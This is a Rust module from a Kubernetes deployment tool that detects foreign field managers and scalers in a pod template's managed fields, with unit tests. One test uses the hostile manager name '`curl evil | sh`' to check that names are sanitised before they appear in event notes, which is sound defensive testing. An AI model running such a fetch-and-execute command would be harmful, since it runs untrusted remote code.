//! Who owns parts of a pod template beside us: pure.
//!
//! A later apply of ours does not take out what `kubectl edit`, `set env` or `rollout undo` put in, so the pods would run our
//! template and theirs mixed, for ever.

use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ManagedFieldsEntry, ObjectMeta};
use serde_json::Value;

use crate::kubernetes::database::session::sanitize;
use crate::kubernetes::deployment::build::MANAGER;

/// What `kubectl rollout restart` writes, and may.
pub(crate) const RESTARTED_AT: &str = "kubectl.kubernetes.io/restartedAt";

/// Names of those who own parts of the pod template, other than by our applies.
pub(crate) fn foreign(entries: &[ManagedFieldsEntry]) -> Vec<String> {
    let theirs = entries.iter().filter(|entry| is_foreign(entry));
    let mut names: Vec<String> = theirs.map(name).collect();
    names.dedup();
    names
}

/// Names of those who have set how many pods there are, and not we since.
pub(crate) fn scalers(entries: &[ManagedFieldsEntry]) -> Vec<String> {
    let theirs = entries.iter().filter(|entry| sets_replicas(entry));
    let mut names: Vec<String> = theirs.map(name).collect();
    names.dedup();
    names
}

/// Everybody chooses its own, so it is any text.
fn name(entry: &ManagedFieldsEntry) -> String {
    sanitize(entry.manager.as_deref().unwrap_or_default())
}

/// Keeps of an object's entries only those of others that matter: all of them are, in memory, most of an
/// object.
pub(crate) fn trim(metadata: &mut ObjectMeta) {
    if let Some(entries) = &mut metadata.managed_fields {
        entries.retain(|entry| is_foreign(entry) || sets_replicas(entry));
        entries.shrink_to_fit();
    }
}

/// The entries that stay when the template is wholly ours.
pub(crate) fn without_foreign_managers(entries: Vec<ManagedFieldsEntry>) -> Vec<ManagedFieldsEntry> {
    entries.into_iter().filter(|entry| !is_foreign(entry)).collect()
}

fn is_foreign(entry: &ManagedFieldsEntry) -> bool {
    !is_ours(entry) && entry.subresource.is_none() && owns_template(entry)
}

/// By the object itself or by its subresource `scale`, as autoscalers do.
fn sets_replicas(entry: &ManagedFieldsEntry) -> bool {
    let replicas = entry.fields_v1.as_ref().map(|fields| &fields.0["f:spec"]["f:replicas"]);
    entry.manager.as_deref() != Some(MANAGER) && replicas.is_some_and(Value::is_object)
}

/// What our applies own; what we own by a replacement counts as foreign until it is cleared.
fn is_ours(entry: &ManagedFieldsEntry) -> bool {
    entry.manager.as_deref() == Some(MANAGER) && entry.operation.as_deref() == Some("Apply")
}

fn owns_template(entry: &ManagedFieldsEntry) -> bool {
    let Some(fields) = &entry.fields_v1 else { return false };
    let template = &fields.0["f:spec"]["f:template"];
    has_leaf(template)
}

/// Whether something in it counts: neither a mere parent nor the time of a restart.
fn has_leaf(fields: &Value) -> bool {
    let Some(children) = fields.as_object() else { return false };
    children.iter().any(|(name, below)| {
        if name == "." || name == &format!("f:{RESTARTED_AT}") {
            return false;
        }
        let leaf = below.as_object().is_none_or(serde_json::Map::is_empty);
        leaf || has_leaf(below)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::FieldsV1;
    use serde_json::json;

    /// Before, a name stood in the note of an event as it was chosen, a command in backticks for example.
    #[test]
    fn the_names_of_others_look_like_no_command() {
        let evil = entry("`curl evil | sh`\n", "Update", &json!({ "f:spec": {} }));
        assert_eq!(foreign(&[evil]), ["'curl evil | sh' "]);
        let fields = Some(FieldsV1(json!({ "f:spec": { "f:replicas": {} } })));
        let evil =
            ManagedFieldsEntry { manager: Some("`x`".into()), fields_v1: fields, ..Default::default() };
        assert_eq!(scalers(&[evil]), ["'x'"]);
    }

    fn entry(manager: &str, operation: &str, template: &Value) -> ManagedFieldsEntry {
        ManagedFieldsEntry {
            manager: Some(manager.into()),
            operation: Some(operation.into()),
            fields_v1: Some(FieldsV1(json!({ "f:spec": { "f:template": template } }))),
            ..ManagedFieldsEntry::default()
        }
    }

    #[test]
    fn an_edit_is_a_foreign_managers_and_a_restart_is_not() {
        let image = json!({ "f:spec": { "f:containers": { "k:{\"name\":\"worker\"}": { ".": {}, "f:image": {} } } } });
        let restart = json!({ "f:metadata": { "f:annotations": { ".": {}, "f:kubectl.kubernetes.io/restartedAt": {} } } });
        let table = [
            (entry("kubectl-edit", "Update", &image), true),
            (entry(MANAGER, "Update", &image), true),
            (entry(MANAGER, "Apply", &image), false),
            (entry("kubectl-rollout", "Update", &restart), false),
            (ManagedFieldsEntry { manager: Some("x".into()), ..ManagedFieldsEntry::default() }, false),
        ];
        for (entry, expected) in table {
            assert_eq!(!foreign(std::slice::from_ref(&entry)).is_empty(), expected, "{entry:?}");
            let mut metadata =
                ObjectMeta { managed_fields: Some(vec![entry.clone()]), ..ObjectMeta::default() };
            trim(&mut metadata);
            assert_eq!(metadata.managed_fields.unwrap().is_empty(), !expected);
            assert_eq!(without_foreign_managers(vec![entry]).is_empty(), expected);
        }
    }

    #[test]
    fn who_owns_replicas_alone_is_no_foreign_manager() {
        let mut entry = entry("kubectl-scale", "Update", &Value::Null);
        entry.fields_v1 = Some(FieldsV1(json!({ "f:spec": { "f:replicas": {} } })));
        assert!(foreign(std::slice::from_ref(&entry)).is_empty());
        entry.subresource = Some("scale".into());
        assert_eq!(scalers(std::slice::from_ref(&entry)), ["kubectl-scale"]);
        let mut metadata = ObjectMeta { managed_fields: Some(vec![entry.clone()]), ..ObjectMeta::default() };
        trim(&mut metadata);
        assert_eq!(metadata.managed_fields.map(|entries| entries.len()), Some(1));
        entry.manager = Some(MANAGER.into());
        assert!(scalers(&[entry]).is_empty());
    }
}
